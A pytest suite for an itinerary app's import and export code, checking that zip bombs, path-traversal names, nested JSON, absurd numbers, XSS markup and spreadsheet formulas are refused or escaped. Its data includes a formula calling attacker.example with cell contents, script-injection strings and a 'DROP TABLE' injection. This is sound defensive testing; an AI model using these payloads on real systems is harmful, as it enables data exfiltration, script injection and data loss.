"""The hostile-input suite of the domain: payloads an attacker or a careless file would bring.

Every bad payload must get a clear message (a ``Problem`` naming the file, and the line or
feature and the column, as every other bad input does) and change nothing: the database content,
its history and its data version stay as they were. Payloads that are valid content (HTML,
markdown, formulas in a name) are kept exactly as text and leave every output escaped.

Databases: every case that reads or writes one runs on SQLite and PostgreSQL (``db_url``).
The URL parameters of the pages are in tests/app/test_hostile.py; spreadsheets opening the
exports in tests/unit/test_spreadsheet.py.
"""

from __future__ import annotations

import csv
import io
import json
import math
import tomllib
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from streamlit import config as st_config

from itinerary import curation as cu
from itinerary import exports, maps, seed, store, transfer
from itinerary.accounts import ADMIN, ALL_CITIES, Account
from itinerary.cells import guard_formula
from tests.conftest import MINI, ROOT
from tests.unit.test_curation import CTX, landmark_form
from ui.text import md_escape, md_inline

ADA = Account("ada", ADMIN, frozenset({ALL_CITIES}))
LANDMARK_HEADER = (MINI / "landmarks.csv").read_text(encoding="utf-8").splitlines()[0]
GOOD_ROW = (MINI / "landmarks.csv").read_text(encoding="utf-8").splitlines()[4]  # oct-loft
FORMULAS = ('=HYPERLINK("http://attacker.example/?x="&A1,"click")', "=1+1", "+1+1", "@SUM(1,1)", "-1+1")
MARKUP = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "</script><script>alert(3)</script>",
    "**bold** [click](https://evil.example) ![i](https://evil.example/i.png)",
    "see https://evil.example and www.evil.example, mail boss@evil.example",
    ":red[alarm] $x^2$ `code` # heading",
    "' OR 1=1; DROP TABLE landmarks; --",
)
ABSURD = ("1e308", "-1e308", "nan", "NaN", "inf", "-inf", "Infinity", "1e309")


@pytest.fixture
def db(db_url: str, mini_dir: Path) -> Iterator[store.Store]:
    """The mini data set in a fresh database (SQLite and PostgreSQL)."""
    s = store.open_store(db_url)
    s.replace_all(seed.load_dir(mini_dir))
    yield s
    s.engine.dispose()


def snapshot(db: store.Store) -> tuple[Any, int, int]:
    """Everything an import could change: content, history rows, data version."""
    with db.engine.connect() as conn:
        history = conn.execute(sa.select(sa.func.count()).select_from(store.changes)).scalar_one()
    return db.dataset(), history, db.data_version()


def refused(db: store.Store, upload: transfer.Upload) -> list[Any]:
    """Preview and try to apply ``upload``; assert that it was refused and nothing changed."""
    before = snapshot(db)
    plan = transfer.preview(db, upload, ADA)
    assert not plan.ok, "accepted"
    assert plan.problems
    for problem in plan.problems:
        assert problem.file and problem.column and problem.message, problem
        assert str(problem).startswith(f"{problem.file}:"), problem  # file:line: column: message
    with pytest.raises(transfer.PlanHasProblems):
        transfer.apply(db, plan, ADA)
    assert snapshot(db) == before
    return list(plan.problems)


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in files.items():
            archive.writestr(name, raw)
    return buffer.getvalue()


def landmarks_csv(**cells: str) -> bytes:
    """landmarks.csv with one row: OCT Loft changed in ``cells``."""
    header = LANDMARK_HEADER.split(",")
    [row] = list(csv.reader([GOOD_ROW]))
    values = dict(zip(header, row, strict=True))
    values.update(cells)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerow([values[h] for h in header])
    return out.getvalue().encode("utf-8")


def geojson(features: Any) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


def point(**props: Any) -> dict[str, Any]:
    base = {"id": "oct-loft", "city_id": "shenzhen", "name": "OCT Loft", "themes": "culture"}
    return {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [113.99, 22.54]},
        "properties": base | props,
    }


# --- settings that bound what arrives ----------------------------------------------------------------

CONFIG = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))


def test_streamlit_shows_no_error_details() -> None:
    """ "none": no message, type or stack of an uncaught exception reaches the browser ("false"
    would still show the stack)."""
    value = CONFIG["client"]["showErrorDetails"]
    assert value == st_config.ShowErrorDetailsConfigOptions.NONE


def test_streamlit_refuses_uploads_above_the_apps_own_limit() -> None:
    """server.maxUploadSize is in megabytes (2**20 bytes, as Streamlit counts)."""
    assert CONFIG["server"]["maxUploadSize"] * 1024 * 1024 == transfer.MAX_UPLOAD_BYTES


# --- deep and wide JSON -------------------------------------------------------------------------------


def test_deeply_nested_geojson_is_a_problem_not_a_crash(db: store.Store) -> None:
    """100,000 levels: deeper than Python's JSON decoder can go (RecursionError)."""
    raw = b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    problems = refused(db, transfer.read_upload("landmarks.geojson", raw))
    assert [p.file for p in problems] == ["landmarks.geojson"]


def test_a_deeply_nested_property_is_a_problem_not_a_crash(db: store.Store) -> None:
    """950 levels: the JSON decoder reads it, a recursive reader of property values does not."""
    head, tail = geojson([point(summary="@@")]).split(b'"@@"')
    raw = head + b"[" * 950 + b'"x"' + b"]" * 950 + tail
    problems = refused(db, transfer.read_upload("landmarks.geojson", raw))
    assert {p.file for p in problems} == {"landmarks.geojson"}


def test_a_wide_geojson_is_reported_and_changes_nothing(db: store.Store) -> None:
    """A feature with 50,000 unknown properties, and 50,000 features that are not features."""
    wide = point(**{f"p{i}": i for i in range(50_000)})
    problems = refused(db, transfer.read_upload("landmarks.geojson", geojson([wide, *[1] * 50_000])))
    assert {p.file for p in problems} == {"landmarks.geojson"}


# --- zip bombs and traversal names ---------------------------------------------------------------------


def test_a_zip_bomb_is_not_unpacked(db: store.Store) -> None:
    bomb = zip_of({"landmarks.csv": b"0" * (transfer.MAX_FILE_BYTES + 1)})
    assert len(bomb) < 200_000  # small on the wire
    problems = refused(db, transfer.read_upload("bomb.zip", bomb))
    assert [p.file for p in problems] == ["landmarks.csv"]


def test_a_zip_bomb_spread_over_members_is_not_unpacked(db: store.Store) -> None:
    chunk = b"0" * (transfer.MAX_TOTAL_BYTES // 3 + 1)
    names = ["landmarks.csv", "itineraries.csv", "itinerary_stops.csv"]
    bomb = zip_of({f"a/{name}": chunk for name in names} | {"b/themes.csv": chunk})
    problems = refused(db, transfer.read_upload("bomb.zip", bomb))
    assert any("large" in p.message for p in problems)


@pytest.mark.parametrize(
    "name",
    [
        "../landmarks.csv",
        "a/../../landmarks.csv",
        "/etc/landmarks.csv",
        "C:/landmarks.csv",
        "..\\landmarks.csv",
    ],
)
def test_a_zip_entry_outside_the_folder_is_not_read(db: store.Store, name: str) -> None:
    problems = refused(db, transfer.read_upload("x.zip", zip_of({name: landmarks_csv(name="Pwned")})))
    assert [p.file for p in problems] == [name]


# --- wrong encodings, huge and empty files ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "name"),
    [
        ("cp1252", "landmarks.csv"),
        ("utf-16", "landmarks.csv"),
        ("gb18030", "landmarks.csv"),
        ("utf-16", "landmarks.geojson"),
    ],
)
def test_a_file_in_another_encoding_is_reported(db: store.Store, encoding: str, name: str) -> None:
    value = "Liège" if encoding == "cp1252" else "Liège 东门"  # cp1252 has no Chinese
    plain = {"name_zh": "", "summary_zh": ""} if encoding == "cp1252" else {}
    raw = landmarks_csv(name=value, **plain) if name.endswith(".csv") else geojson([point(name=value)])
    text = raw.decode()
    problems = refused(db, transfer.read_upload(name, text.encode(encoding)))
    assert [p.file for p in problems] == [name]


@pytest.mark.parametrize("name", ["landmarks.csv", "export.zip", "landmarks.geojson"])
def test_a_file_over_the_limit_is_refused_unread(db: store.Store, name: str) -> None:
    problems = refused(db, transfer.read_upload(name, b"x" * (transfer.MAX_UPLOAD_BYTES + 1)))
    assert [p.file for p in problems] == [name]


def test_a_file_over_the_limit_on_disk_is_refused_unread(db: store.Store, tmp_path: Path) -> None:
    path = tmp_path / "landmarks.csv"
    with path.open("wb") as handle:
        handle.truncate(transfer.MAX_UPLOAD_BYTES + 1)  # sparse: nothing is written to disk
    assert [p.file for p in refused(db, transfer.read_path(path))] == ["landmarks.csv"]


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("landmarks.csv", b""),
        ("landmarks.csv", b"\xef\xbb\xbf"),
        ("landmarks.geojson", b""),
        ("landmarks.geojson", b"{}"),
        ("empty.zip", zip_of({})),
        ("landmarks.csv", b"\x00" * 1000),
    ],
)
def test_an_empty_or_blank_file_is_reported(db: store.Store, name: str, raw: bytes) -> None:
    assert refused(db, transfer.read_upload(name, raw))


# --- absurd numbers --------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["lat", "lon", "visit_minutes"])
@pytest.mark.parametrize("value", ABSURD)
def test_absurd_numbers_in_an_import_are_refused(db: store.Store, column: str, value: str) -> None:
    problems = refused(db, transfer.Upload.of({"landmarks.csv": landmarks_csv(**{column: value})}))
    assert [(p.file, p.line, p.column) for p in problems] == [("landmarks.csv", 2, column)]


@pytest.mark.parametrize("column", ["lat", "lon"])
@pytest.mark.parametrize("value", [1e308, -1e308, math.nan, math.inf, -math.inf])
def test_absurd_coordinates_in_geojson_are_refused(db: store.Store, column: str, value: float) -> None:
    feature = point()
    coordinates = [value, 22.54] if column == "lon" else [113.99, value]
    feature["geometry"]["coordinates"] = coordinates
    # json.dumps writes NaN and Infinity, which Python's json module (and so a careless exporter) reads
    problems = refused(db, transfer.read_upload("landmarks.geojson", geojson([feature])))
    assert {p.file for p in problems} == {"landmarks.geojson"}


@pytest.mark.parametrize("field", ["lat", "lon", "visit_minutes"])
@pytest.mark.parametrize("value", [*ABSURD, 1e308, math.nan, math.inf, -math.inf])
def test_absurd_numbers_in_the_editor_are_refused(field: str, value: object) -> None:
    with pytest.raises(cu.FieldErrors) as info:
        cu.parse_landmark(landmark_form(**{field: value}), CTX, new=True)
    assert field in info.value.errors or (field == "lon" and "lat" in info.value.errors)


def test_absurd_numbers_in_an_itinerary_stop_are_refused() -> None:
    for value in (math.nan, math.inf, 1e308, "nan", "-inf"):
        form = {
            "id": "x-tour",
            "title": "X",
            "mode": "walk",
            "start_time": "09:00",
            "status": "draft",
            "featured": False,
        }
        stops = [{"landmark_id": "oct-loft", "dwell_minutes": value, "note": "", "note_zh": ""}]
        with pytest.raises(cu.FieldErrors) as info:
            cu.parse_itinerary(form, stops, CTX, new=True)
        assert any(key.startswith("stops.") for key in info.value.errors), info.value.errors


# --- markup and formulas are content: kept as text, escaped in every output --------------------------------

TEXT_COLUMNS = ("name", "name_zh", "district", "address", "summary", "summary_zh", "price", "opening_hours")


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_in_every_text_field_is_kept_as_text_and_escaped_on_the_map(
    db: store.Store, payload: str
) -> None:
    cells = {c: payload for c in TEXT_COLUMNS if c not in ("price", "opening_hours")}
    plan = transfer.preview(db, {"landmarks.csv": landmarks_csv(**cells)}, ADA)
    assert plan.ok, plan.report()
    transfer.apply(db, plan, ADA)
    with db.engine.connect() as conn:
        found = cu.read_landmark(conn, "oct-loft")
    assert found is not None
    lm, _ = found
    assert {c: getattr(lm, c) for c in cells} == cells  # stored exactly
    # the map: pins' names and route tooltips are HTML-escaped
    frame = db.frame(store.landmarks, store.landmarks.c.id == "oct-loft")
    frame["themes"] = [["culture"]]
    rows = maps.landmark_rows(
        frame, styles=[maps.ThemeStyle("culture", "C", "#123456", "star")], names=frame["name"]
    )
    assert rows[0][3] == maps.escape(payload)
    fmap = maps.base_map(center=(22.54, 113.99), zoom=12, tiles=maps.TileConfig(), legend=())
    maps.route_group([maps.RouteStop("oct-loft", 22.54, 113.99, payload)]).add_to(fmap)
    html = fmap.get_root().render()
    assert "<script>alert" not in html and "<img src=x" not in html
    # the cards: markdown shows it literally
    shown = md_escape(payload)
    assert "](" not in shown.replace("\\]\\(", "") and "<" not in shown.replace("\\<", "")


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_leaves_the_plan_exports_escaped(payload: str) -> None:
    plan = _plan(payload)
    assert "<script>alert" not in exports.to_print_html(plan)
    assert "<script>alert" not in exports.to_kml(plan) and "<script>alert" not in exports.to_gpx(plan)
    assert "<img src=x" not in exports.to_print_html(plan)


def test_notices_quote_a_value_from_the_link_literally() -> None:
    shown = md_inline("Unknown theme “[click](https://evil.example)” in the link was ignored.")
    assert "\\[click\\]" in shown and "https://" not in shown
    assert md_inline("space-needle, 1. item") == "space-needle, 1. item"  # "-" and "." stay


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_leave_the_exports_as_text_and_come_back_unchanged(
    db: store.Store, payload: str
) -> None:
    """Through the editor (the writer) and back through the importer: the export guards the cell,
    the importer reads the guarded cell back to the original text, and nothing changes."""
    curator = cu.Curator(db)
    lm, version = curator.landmark("oct-loft")
    curator.save_landmark(ADA, replace(lm, name=payload, summary=payload), base_version=version)
    files = transfer.export_files(db, "shenzhen")
    rows = list(csv.DictReader(io.StringIO(files["landmarks.csv"].decode("utf-8-sig"))))
    [row] = [r for r in rows if r["id"] == "oct-loft"]
    assert (row["name"], row["summary"]) == (guard_formula(payload), guard_formula(payload))
    before = snapshot(db)
    plan = transfer.preview(db, transfer.Upload.of(files), ADA)
    assert plan.ok and not plan.rows, plan.report()
    assert snapshot(db) == before
    assert curator.landmark("oct-loft")[0].name == payload


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_leave_the_plan_csv_as_text(payload: str) -> None:
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(_plan(payload)))))
    assert {rows[0][c] for c in ("name", "name_zh", "address", "note")} == {guard_formula(payload)}


# --- links too long for a QR code -------------------------------------------------------------------


def test_a_link_too_long_for_a_qr_code_is_reported_not_raised_from_deep_inside() -> None:
    long_link = "https://explore.example.org/plan?origin_name=" + "x" * 5000
    assert exports.qr_fits("https://explore.example.org/plan?stops=oct-loft")
    assert not exports.qr_fits(long_link) and not exports.qr_fits("javascript:alert(1)")
    with pytest.raises(exports.LinkTooLong):
        exports.qr_png(long_link)
    page = exports.to_print_html(_plan("x", url=long_link))
    assert "<svg" not in page and long_link in page  # no QR code, the link is still printed


def _plan(text: str, *, url: str = "https://explore.example.org/plan?stops=oct-loft") -> exports.ExportPlan:
    start = datetime(2026, 12, 5, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    stop = exports.ExportStop(
        id="oct-loft",
        name=text,
        name_zh=text,
        lat=22.54,
        lon=113.99,
        arrive=start,
        depart=start + timedelta(hours=1),
        address=text,
        note=text,
    )
    return exports.ExportPlan(
        title=text, city_name="Shenzhen", timezone="Asia/Shanghai", mode="walk", url=url, stops=(stop,)
    )
